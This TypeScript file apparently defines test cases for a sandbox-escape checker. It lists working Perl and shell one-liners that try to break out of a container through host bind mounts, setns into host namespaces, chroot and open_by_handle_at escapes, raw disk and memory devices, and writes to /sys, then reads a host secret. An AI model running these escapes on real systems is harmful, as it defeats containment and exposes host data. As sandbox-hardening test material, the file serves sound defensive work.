/** Mounts, namespaces and device nodes. */
import { type Case, changed, claimed, looted } from "../Case.ts"

const unmount = `umount -l "$WS/m" 2>&-; umount -l "$H/m" 2>&-; :`

/** The cases. */
export const cases: ReadonlyArray<Case> = [
  {
    id: "tmpfs",
    level: "os",
    why: "a mount that the host sees",
    needs: ["perl"],
    command: `mkdir -p m; perl -e "$P"'my($a,$b)=("tmpfs","$WS/m"); sys("mount",$a,$b,$a,0,0)'`,
    check: `grep -q " $WS/m " /proc/self/mounts`,
    clean: unmount
  },
  {
    id: "bind",
    level: "os",
    why: "a folder of the host's, bound where it can be read",
    needs: ["perl"],
    command: `mkdir -p m; perl -e "$P"'my($a,$b,$c)=("/proc/1/root$H","$WS/m","none"); sys("mount",$a,$b,$c,4096,0); sys("mount",$H,$b,$c,4096,0); slurp("m/secret.txt")'`,
    check: looted,
    clean: unmount
  },
  {
    id: "new-namespace",
    level: "os",
    why: "a user namespace of one's own has every right in it, and half of the kernel's weak spots behind it",
    needs: ["perl"],
    command: `perl -e "$P"'sys("unshare",0x10000000|0x20000)==0 and worked()'`,
    check: claimed
  },
  {
    id: "new-namespace-program",
    level: "os",
    why: "the same with clone",
    needs: ["unshare"],
    command: `unshare -Ur -m true && echo "worked $TOKEN" >> loot`,
    check: claimed
  },
  {
    id: "enter",
    level: "os",
    why: "the namespaces of a process of the host's",
    needs: ["perl"],
    command: `perl -e "$P"'for my $k (qw(user mnt)) { open(my $f,"<","/proc/$PID/ns/$k") or next; sys("setns",fileno($f),0) } slurp("$H/secret.txt")'`,
    check: looted
  },
  {
    id: "enter-network",
    level: "os",
    why: "the network of the host's first process",
    needs: ["perl"],
    command: `perl -e "$P"'for my $p ($PID,1) { open(my $f,"<","/proc/$p/ns/net") or next; sys("setns",fileno($f),0x40000000)==0 or next; socket(my $s,AF_INET,SOCK_STREAM,0); connect($s,pack_sockaddr_in($ENV{PORT},inet_aton("127.0.0.1"))) and get($s) }'`,
    check: looted
  },
  {
    id: "unmount",
    level: "os",
    why: "what lies below a mount that protects",
    setup: `mkdir -p "$H/m"`,
    needs: ["perl"],
    command: `perl -e "$P"'open(my $m,"<","/proc/self/mounts"); for(reverse <$m>) { my(undef,$p)=split / /; next unless index($p,$WS)==0 || index($p,"/proc/s")==0 || $p eq "/tmp"; sys("umount2",$p,2)==0 and worked() } my $p="$WS"; sys("umount2",$p,8)' ; m="$WS/m"; mkdir -p "$m"; perl -e "$P"'my($a,$b)=("tmpfs","$WS/m"); sys("mount",$a,$b,$a,0,0)==0 or exit; sys("umount2",$b,2)==0 and worked()'`,
    check: claimed,
    clean: unmount
  },
  {
    id: "remount",
    level: "os",
    why: "a system folder that is there to be read, made one that can be written",
    needs: ["perl"],
    command: `mkdir -p m; perl -e "$P"'my($t,$b,$u,$n)=("tmpfs","$WS/m","/usr","none"); if(sys("mount",$n,$u,$n,0x1020,0)==0){worked()} sys("mount",$t,$b,$t,1,0)==0 and sys("mount",$n,$b,$n,0x20,0)==0 and worked()'`,
    check: claimed,
    clean: unmount
  },
  {
    id: "new-mount-calls",
    level: "os",
    why: "the newer calls, which a filter of the older ones forgets",
    needs: ["perl"],
    command: `perl -e "$P"'my($a,$b)=("tmpfs","/"); (sys("fsopen",$a,0)>=0 || sys("open_tree",-100,$b,1)>=0) and worked()'`,
    check: claimed
  },
  {
    id: "pivot",
    level: "os",
    why: "another root",
    needs: ["perl"],
    command: `mkdir -p r; perl -e "$P"'open(my $d,"<","."); chroot("r") or exit 1; chdir($d); chdir("..") for 1..20; chroot("."); slurp($H."/secret.txt")'`,
    check: looted
  },
  {
    id: "file-handle",
    level: "os",
    why: "a file by its number on the disk that the workspace is on, whatever is mounted where (the first break-out of Docker)",
    needs: ["perl"],
    // The host gives the handle that an attacker would have to guess.
    setup: `perl -e "$P"'my $h=pack("Ii",128,0).("\\0"x128); my $m=pack("i",0); my $p="$H/secret.txt"; sys("name_to_handle_at",-100,$p,$h,$m,0)==0 or exit 1; open(my $f,">","$WS/handle"); print $f $h'`,
    command: `perl -e "$P"'open(my $f,"<","$WS/handle"); local $/; my $h=<$f>; open(my $d,"<",$WS); my $o=sys("open_by_handle_at",fileno($d),$h,0); exit 1 if $o<0; open(my $s,"<&=",$o); my $b; sysread($s,$b,4096); put($b)'`,
    check: looted
  },
  {
    id: "device-node",
    level: "os",
    why: "a device node in the workspace: the host's disk for whoever opens it",
    needs: ["mknod"],
    command: `mknod dev c 1 3`,
    check: `test -c "$WS/dev"`
  },
  {
    id: "device-disk",
    level: "os",
    why: "the disk itself",
    needs: ["perl"],
    command: `d=$(awk '$2=="/"{print $1}' /proc/1/mounts 2>&-); for f in "$d" /dev/vda /dev/sda /dev/nvme0n1 /dev/dm-0; do perl -e "$P"'open(my $f,"<",$ARGV[0]) or exit 1; my $b; sysread($f,$b,512)==512 and worked()' "$f"; done; mknod disk b 254 0 && perl -e "$P"'open(my $f,"<","disk") or exit 1; my $b; sysread($f,$b,512)==512 and worked()'`,
    check: claimed
  },
  {
    id: "device-memory",
    level: "os",
    why: "the memory of the machine",
    needs: ["perl"],
    command: `perl -e "$P"'for (qw(/dev/mem /dev/kmem /dev/port /proc/kcore)) { open(my $f,"<",$_) or next; my $b; sysread($f,$b,16)>0 and worked() }'`,
    check: claimed
  },
  {
    id: "device-messages",
    level: "os",
    why: "the kernel's log, for the host's programs to read",
    command: `echo "escape $TOKEN" > /dev/kmsg`,
    check: `dmesg | grep -q "$TOKEN"`
  },
  {
    id: "fuse",
    level: "os",
    why: "a file system of one's own",
    needs: ["perl"],
    command: `perl -e "$P"'open(my $f,"+<","/dev/fuse") and worked()'`,
    check: claimed
  },
  {
    id: "system-tree",
    level: "os",
    why: "/sys, through which devices and the kernel are set",
    command: `for f in /sys/kernel/mm/transparent_hugepage/enabled /sys/kernel/uevent_helper /sys/power/state; do test -w "$f" && { : >> "$f"; } && echo "worked $TOKEN" >> loot; done`,
    check: claimed
  },
  {
    id: "mounts-through-workspace",
    level: "os",
    why: "a mount inside that shows through on the host",
    needs: ["unshare"],
    command: `mkdir -p m; unshare -m --propagation shared sh -c 'mount -t tmpfs none m && : > m/x' ; mount --make-rshared / 2>&-; mount -t tmpfs none "$WS/m"`,
    check: `grep -q " $WS/m " /proc/self/mounts`,
    clean: `${unmount}; :`
  },
  {
    id: "folder-of-process",
    level: "os",
    why: "the folder of a process of the host's, and the one around it",
    command: `echo bad >> "/proc/$PID/cwd/../target.txt"`,
    check: changed
  }
]
